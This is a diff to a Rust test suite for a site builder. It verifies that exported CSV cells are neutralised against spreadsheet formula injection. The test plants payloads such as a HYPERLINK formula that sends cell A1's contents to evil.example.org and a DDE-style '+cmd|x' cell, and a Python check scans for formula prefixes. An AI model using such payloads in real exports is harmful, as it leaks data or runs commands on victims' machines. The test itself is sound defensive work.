@@ -5,13 +5,13 @@ use std::collections::{BTreeMap, BTreeSet};
 use serde_json::Value as Json;
 
 use crate::support::{
-    ADDRESS, Tree, assert_no_problems, bacheca, read_tree, site_of_all_kinds, small_board, small_site,
+    ADDRESS, Tree, assert_no_problems, bacheca, read_tree, run_tool, site_of_all_kinds, small_board, small_site,
 };
 
 /// Rows of a CSV file, each a map by column.
 fn csv_rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
     let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a spreadsheet wants the byte order mark");
-    let mut reader = csv::Reader::from_reader(text);
+    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text);
     let names = reader.headers().unwrap().clone();
     let rows = reader.records().map(|row| row.expect("every row has every column"));
     rows.map(|row| names.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect()).collect()
@@ -38,19 +38,36 @@ fn csv_has_the_items_of_the_json() {
     assert!(withdrawn["ente"].is_empty() && withdrawn["sintesi"].is_empty());
 }
 
+/// Cells of a CSV file that a spreadsheet would take for a formula, however it divides the file: Python's module reads it
+/// with each delimiter.
+const FORMULAS: &str = r#"
+import csv, sys
+for delimiter in ";,\t":
+    with open(sys.argv[1], encoding="utf-8-sig", newline="") as file:
+        for row in csv.reader(file, delimiter=delimiter):
+            for cell in row:
+                if cell.lstrip(" ")[:1] in tuple("=+-@\t\r"):
+                    print(repr(delimiter), repr(cell))
+"#;
+
 #[test]
 fn csv_cell_is_never_a_formula() {
     let board = small_board();
     let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
     let text = std::fs::read_to_string(&file).unwrap();
-    let title = "'=HYPERLINK(\"https://evil.example.org/?\"&A1, \"Sportello\")'";
-    std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
+    let title =
+        "'=HYPERLINK(\"https://evil.example.org/?\"&A1, \"Sportello\");=HYPERLINK(\"https://evil.example/?x=\"&A1)'";
+    let summary = "'Uno sportello;+cmd|x, -1;\"=2\"; \"\"@SUM(A1), \"=3'";
+    let text = text.replace("titolo: Sportello diritti", &format!("titolo: {title}"));
+    let (before, rest) = text.split_once("sintesi: ").unwrap();
+    let (_, after) = rest.split_once('\n').unwrap();
+    std::fs::write(&file, format!("{before}sintesi: {summary}\n{after}")).unwrap();
     bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).expect_code(0);
-    let bytes = std::fs::read(board.path().join("public/dati/opportunita.csv")).unwrap();
-    let rows = csv_rows(&bytes);
+    let table = board.path().join("public/dati/opportunita.csv");
+    let rows = csv_rows(&std::fs::read(&table).unwrap());
     assert!(rows.iter().any(|row| row["titolo"].starts_with("'=HYPERLINK(\"https")), "{rows:?}");
-    let cells = rows.iter().flat_map(|row| row.values());
-    assert_no_problems(cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).cloned().collect());
+    let found = run_tool("python3", "python3", &["-c", FORMULAS, table.to_str().unwrap()]);
+    assert_eq!(String::from_utf8(found).unwrap(), "");
 }
 
 #[test]
